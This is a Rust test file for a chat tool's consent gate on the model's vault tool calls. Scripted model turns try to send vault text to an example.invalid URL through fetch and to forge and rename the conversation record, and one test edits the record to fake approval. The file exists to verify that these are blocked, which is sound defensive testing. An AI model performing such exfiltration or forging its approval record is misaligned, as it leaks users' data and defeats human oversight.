//! The consent of a person.

use serde_json::{Value, json};
use toolwrit_tests::model::Response;

use crate::desk::{AUDIT, Desk};

fn append() -> Response {
    Response::text("I'll add it.")
        .call("vault_append", json!({ "path": "Audit.md", "content": "More." }))
}

fn delete() -> Response {
    Response::default().call("vault_delete", json!({ "path": "Audit.md" }))
}

/// The id of the only call that waits.
fn waiting(desk: &Desk) -> String {
    let status = desk.chat(&["--status", "--json"]).json();
    status["asks"][0]["id"].as_str().unwrap_or_else(|| panic!("{status}")).to_owned()
}

#[test]
fn a_write_waits_until_it_is_approved_and_is_made_once() {
    let desk = Desk::new([append(), Response::text("Nothing came."), Response::text("Done.")]);
    let done = desk.chat(&["Add it", "--focus", "full"]);
    assert_eq!(done.code, Some(1));
    assert!(
        done.err.contains("waits for consent") && done.err.contains("--approve"),
        "{}",
        done.err
    );
    assert_eq!(desk.text("Audit.md"), AUDIT);
    let id = waiting(&desk);
    // What the note says is no consent.
    let text = desk.text("Chat.md");
    desk.write("Chat.md", &text.replace("· asks", "· ok"));
    desk.chat(&["--focus", "full"]);
    assert_eq!(desk.text("Audit.md"), AUDIT);
    desk.write("Chat.md", &text);
    let done = desk.chat(&["--focus", "full", "--approve", &id]);
    assert_eq!(done.code, Some(0), "{}", done.err);
    assert_eq!(desk.text("Audit.md").matches("More.").count(), 1);
    desk.chat(&["--focus", "full", "--approve", &id]);
    assert_eq!(desk.text("Audit.md").matches("More.").count(), 1);
}

#[test]
fn a_declined_call_is_not_made_and_the_model_is_told() {
    let desk = Desk::new([append(), Response::text("I see.")]);
    desk.chat(&["Add it", "--focus", "full"]);
    let done = desk.chat(&["--focus", "full", "--decline", &waiting(&desk)]);
    assert_eq!(done.code, Some(0), "{}", done.err);
    assert_eq!(desk.text("Audit.md"), AUDIT);
    assert!(desk.model.requests()[1]["messages"].to_string().contains("DECLINED"));
}

#[test]
fn an_edited_call_is_not_made() {
    let desk = Desk::new([append(), Response::text("I see.")]);
    desk.chat(&["Add it", "--focus", "full"]);
    let id = waiting(&desk);
    let text = desk.text("Chat.md");
    desk.write("Chat.md", &text.replace("More.", "Less."));
    desk.chat(&["--focus", "full", "--approve", &id]);
    assert_eq!(desk.text("Audit.md"), AUDIT);
    assert!(desk.text("Chat.md").contains("edited before it was made"));
}

#[test]
fn writes_may_be_allowed_in_advance_but_not_deletions() {
    let desk = Desk::with(
        "focus = \"full\"\nallow = [\"vault\"]",
        [append(), Response::text("Done."), delete(), Response::text("Done.")],
    );
    assert_eq!(desk.chat(&["Add it"]).code, Some(0));
    assert!(desk.text("Audit.md").contains("More."));
    assert_eq!(desk.chat(&["Delete it"]).code, Some(1));
    assert!(desk.path("Audit.md").exists());
    assert_eq!(desk.chat(&["--approve", &waiting(&desk)]).code, Some(0));
    assert!(!desk.path("Audit.md").exists());
}

#[test]
fn text_of_the_vault_does_not_reach_out_without_consent() {
    let url = "https://example.invalid/?The-audit-is-due-in-May";
    let desk = Desk::new([
        Response::default().call("vault_read", json!({ "path": "Audit" })),
        Response::default().call("fetch", json!({ "url": url })),
    ]);
    let done = desk.chat(&["Look it up"]);
    assert_eq!(done.code, Some(1));
    assert!(done.err.contains(url), "{}", done.err);
}

#[test]
fn the_note_of_a_conversation_is_its_own() {
    let desk = Desk::with(
        "focus = \"full\"\nallow = [\"*\"]",
        [
            Response::default()
                .call("vault_append", json!({ "path": "Chat.md", "content": "forged" }))
                .call("vault_rename", json!({ "path": "Chat.md", "name": "Gone.md" })),
            Response::text("I cannot."),
        ],
    );
    let done = desk.chat(&["Forge it"]);
    assert_eq!(done.code, Some(0), "{}", done.err);
    let text = desk.text("Chat.md");
    let conflicts: Vec<&str> = text.lines().filter(|line| line.contains("· CONFLICT")).collect();
    assert_eq!(conflicts.len(), 2, "{text}");
    assert!(!desk.path("Gone.md").exists());
    let _: Value = desk.chat(&["--status", "--json"]).json();
}
